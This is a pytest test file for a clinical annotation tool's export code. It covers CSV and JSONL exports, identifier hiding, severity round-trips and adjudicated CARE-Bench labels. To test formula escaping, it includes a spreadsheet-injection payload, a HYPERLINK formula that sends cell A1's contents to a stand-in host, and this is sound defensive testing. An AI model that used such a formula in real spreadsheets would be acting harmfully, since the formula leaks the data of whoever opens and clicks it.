"""What leaves in an export: nothing a spreadsheet runs, no identifier through a
side door, every part of an answer (a step mark's severity), the settled answer
where an adjudicator settled a tie; and an annotation export goes back in
through the labels-long importer to the same answers."""

from __future__ import annotations

import csv
import io
import json

import pytest

from review.datasets.export import carebench_labels, export_annotations
from review.datasets.sources import import_file
from review.reviewing.commit import commit_answer, mark_step, skip_item
from review.reviewing.criteria import find_item
from review.reviewing.items import load_item
from review.team.adjudication import settle, settle_unanimous, settle_unanimous_steps
from review.team.reviewers import ensure_reviewer
from review.workspace import open_store
from store.spreadsheet import safe_cell, unquote_cell
from store.writer import InputError
from tests.helpers import write_jsonl

PREFIX = {"prefix_id": "meb_v1_case_0001_r01", "input_patient_turns": ["=1+1 my head hurts"],
          "gold_label": "0A_NO_ESCALATION_INFO_NEEDED"}
HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
Q = "carebench.escalation_needed"


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def one_answer(store, tmp_path, rationale: str) -> int:
    import_file(store, write_jsonl(tmp_path / "p.jsonl", [PREFIX]))
    item = store.scalar("SELECT id FROM items WHERE uid = ?", (PREFIX["prefix_id"],))
    commit_answer(store, ensure_reviewer(store, "Dr A"), item, load_item(store, item).question_id,
                  "0A", rationale=rationale, confidence=4)
    return item


# -- A. spreadsheet formulas -------------------------------------------------------------

def test_annotation_csv_cells_are_not_spreadsheet_formulas(store, tmp_path):
    one_answer(store, tmp_path, HOSTILE)
    out = tmp_path / "annotations.csv"
    export_annotations(store, out)
    text = out.read_text(encoding="utf-8")
    assert not [c for c in cells(text) if c.startswith(FORMULA_START)]
    assert "'" + HOSTILE in cells(text)
    # JSON is not opened by a spreadsheet: the words go as written
    export_annotations(store, tmp_path / "annotations.jsonl")
    rows = [json.loads(x) for x in (tmp_path / "annotations.jsonl").read_text().splitlines()]
    assert HOSTILE in [r["rationale"] for r in rows]


def test_browse_csv_cells_are_not_spreadsheet_formulas(store, tmp_path):
    from review.browse import gather_cases, to_csv

    item = one_answer(store, tmp_path, "fine")
    found = cells(to_csv(gather_cases(store, [item])))
    assert not [c for c in found if c.startswith(FORMULA_START)]
    assert any(c.startswith("'=1+1 my head hurts") for c in found)


@pytest.mark.parametrize("text", ["=1+1", "+44 20", "-2", "@SUM(A1)", "\tx", "\r=x", "'=x", "''-x",
                                  "'plain", "'", "", "plain", "2", "a=b"])
def test_the_guard_is_undone_exactly_and_never_leaves_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert unquote_cell(cell) == text


def test_numbers_stay_numbers_text_that_looks_like_one_is_quoted():
    # as the agreement CSV has always done: a negative coefficient is a number in its column
    assert safe_cell(-2) == -2 and safe_cell(-0.25) == -0.25 and safe_cell(None) is None
    assert safe_cell("-2") == "'-2" and unquote_cell("'-2") == "-2"
    assert unquote_cell("-2") == "-2"  # a spreadsheet user's own "-2" is read as written


# -- B. identifiers ----------------------------------------------------------------------

def test_a_clinicare_task_id_does_not_leave_through_the_import_path(store, tmp_path):
    from tests.test_sources_trajectories import CLINICARE_REWARDS, make_trial

    # One trial directory imported alone: Harbor names it after the task id.
    trial = make_trial(tmp_path / "jobs", "sc07-a1b2c3__x1", rewards=CLINICARE_REWARDS,
                       result={"task_name": "sc07-a1b2c3", "trial_name": "sc07-a1b2c3__x1",
                               "config": {"agent": {"model_name": "vendor/model-x"}}},
                       report="## Answer: NO\n")
    import_file(store, trial)
    for name in ("annotations.csv", "annotations.jsonl"):
        out = tmp_path / name
        assert export_annotations(store, out) > 0
        assert "sc07-a1b2c3" not in out.read_text(encoding="utf-8")
    export_annotations(store, out, with_identifiers=True)
    assert str(trial) in {json.loads(x)["import_path"] for x in out.read_text().splitlines()}


# -- C. every part of an answer, and back in -----------------------------------------------

@pytest.fixture
def run(store, tmp_path):
    """A KlinikeBench run whose step 4 Dr. Marks marked (severity 3) from a spreadsheet."""
    from tests.test_sources_trajectories import UID, kb_row

    import_file(store, write_jsonl(tmp_path / "episodes.jsonl", [kb_row()]))
    marks = tmp_path / "marks.csv"
    marks.write_text("item_id,rater,value,question,target,severity,rationale\n"
                     f"{UID},Dr. Marks,wrong_parameters,trajectory.step_error,step:4,3,why\n",
                     encoding="utf-8")
    import_file(store, marks)
    return find_item(store, UID)


def test_annotation_export_keeps_a_step_marks_severity(store, tmp_path, run):
    out = tmp_path / "annotations.jsonl"
    export_annotations(store, out)
    rows = [json.loads(line) for line in out.open(encoding="utf-8")]
    mark = next(r for r in rows if r["target"] == "step:4")
    assert mark["severity"] == 3 and mark["rater"] == "Dr. Marks"
    out = tmp_path / "annotations.csv"
    export_annotations(store, out)
    mark = next(r for r in csv.DictReader(out.open(encoding="utf-8")) if r["target"] == "step:4")
    assert mark["severity"] == "3"


def in_force(store) -> set[tuple]:
    return {tuple(r) for r in store.query(
        "SELECT i.uid, q.key, r.name, c.target, c.status, c.value, c.rationale,"
        " json_extract(c.extra, '$.severity') FROM current_annotations c"
        " JOIN items i ON i.id = c.item_id JOIN questions q ON q.id = c.question_id"
        " JOIN raters r ON r.id = c.rater_id")}


def test_annotation_export_goes_back_in_as_labels_long(store, tmp_path, run):
    """A skip, a settled mark withdrawn, notes a spreadsheet would run: the same
    answers in force in a fresh database after export -> labels-long import."""
    from review.reviewing.criteria import item_questions
    from tests.test_sources_trajectories import kb_row

    a, b, c = (ensure_reviewer(store, f"Dr. {x}") for x in "ABC")
    for who in (a, b):
        mark_step(store, who, run, 2, "wrong_tool", 3, note="-2 points: " + HOSTILE)
    assert settle_unanimous_steps(store) == 1
    mark_step(store, b, run, 2, "unsafe_action", 5, note="'=as typed")  # withdraws the settlement
    skip_item(store, c, run, item_questions(store, run)[0].id, "+ no time today")
    out = tmp_path / "annotations.csv"
    export_annotations(store, out)
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert {(r["rater"], r["status"], r["adjudication_reason"]) for r in rows
            if r["rater"] == "adjudicated"} == {("adjudicated", "answered", "unanimous"),
                                                ("adjudicated", "skipped", "reopened")}
    assert {"skipped"} <= {r["status"] for r in rows if r["rater"] == "Dr. C"}

    fresh = open_store(tmp_path / "fresh.db")
    import_file(fresh, write_jsonl(tmp_path / "episodes2.jsonl", [kb_row()]))
    # Settled answers are made by adjudication, never brought in by a file (issue 18):
    # the export with them is refused; without them, every other answer goes back in.
    with pytest.raises(InputError, match="settled answers"):
        import_file(fresh, out, "labels-long")
    theirs = tmp_path / "without_settled.csv"
    with theirs.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(r for r in rows if r["rater"] != "adjudicated")
    import_file(fresh, theirs, "labels-long")
    assert in_force(fresh) == {r for r in in_force(store) if r[2] != "adjudicated"}
    assert ("'=as typed",) in {r[6:7] for r in in_force(fresh)}
    fresh.close()


def test_labels_long_refuses_a_skipped_row_with_a_value(store, tmp_path, run):
    from tests.test_sources_trajectories import UID

    bad = tmp_path / "bad.csv"
    bad.write_text(f"item_id,rater,value,status\n{UID},Dr. A,met,skipped\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"bad.csv:2: a skipped row has no value"):
        import_file(store, bad, "labels-long")
    bad.write_text(f"item_id,rater,value,status\n{UID},Dr. A,met,maybe\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"bad.csv:2: status must be one of answered, "
                                         r"cannot_assess, skipped, got 'maybe'"):
        import_file(store, bad, "labels-long")


# -- D. the CARE-Bench labels of the clinicians ----------------------------------------------

def test_carebench_labels_take_the_settled_answer_of_a_tie(prefixes):
    store = prefixes
    uid = "t_case_00000_r01"
    item = store.scalar("SELECT id FROM items WHERE uid = ?", (uid,))
    qid = load_item(store, item).question_id
    commit_answer(store, ensure_reviewer(store, "Rev A"), item, qid, "0B")
    commit_answer(store, ensure_reviewer(store, "Rev B"), item, qid, "1B")
    labels, ties = carebench_labels(store)
    assert uid not in dict(labels) and [t for t in ties if t.startswith(uid)]
    settle(store, None, item, ensure_reviewer(store, "Judge", role="adjudicator"), "1B",
           "reviewer_error", "red flag missed", question_key=Q)
    labels, ties = carebench_labels(store)
    assert dict(labels)[uid] == "1B_ESCALATION_URGENT_CARE"
    assert not [t for t in ties if t.startswith(uid)]
    # one reviewer's own labels are still theirs alone
    assert dict(carebench_labels(store, "Rev A")[0])[uid] == "0B_NO_ESCALATION_SELF_CARE_MONITOR"


def test_carebench_labels_take_the_settled_answer_over_a_majority(prefixes):
    store = prefixes
    uid = "t_case_00000_r01"
    item = store.scalar("SELECT id FROM items WHERE uid = ?", (uid,))
    qid = load_item(store, item).question_id
    for name, value in (("Rev A", "0B"), ("Rev B", "0B"), ("Rev C", "1B")):
        commit_answer(store, ensure_reviewer(store, name), item, qid, value)
    settle(store, None, item, ensure_reviewer(store, "Judge", role="adjudicator"), "1B",
           "reviewer_error", question_key=Q)
    assert dict(carebench_labels(store)[0])[uid] == "1B_ESCALATION_URGENT_CARE"


def test_a_withdrawn_settlement_is_not_the_label_but_one_in_force_is(prefixes):
    store = prefixes
    (one, uid_one), (two, uid_two) = store.query(
        "SELECT id, uid FROM items WHERE uid IN ('t_case_00000_r01', 't_case_00000_r02') ORDER BY id")
    qid = load_item(store, one).question_id
    a, b = ensure_reviewer(store, "Rev A"), ensure_reviewer(store, "Rev B")
    for item, (va, vb) in ((one, ("0B", "0B")), (two, ("0A", "1A"))):
        commit_answer(store, a, item, qid, va)
        commit_answer(store, b, item, qid, vb)
    assert settle_unanimous(store, None, question_key=Q) == 1
    settle(store, None, two, ensure_reviewer(store, "Judge", role="adjudicator"), "1A",
           "ambiguous_item", question_key=Q)
    commit_answer(store, b, one, qid, "1A")  # the agreement breaks: its settlement is withdrawn
    labels, ties = carebench_labels(store)
    assert uid_one not in dict(labels) and [t for t in ties if t.startswith(uid_one)]
    assert dict(labels)[uid_two] == "1A_ESCALATION_NONURGENT_CARE"
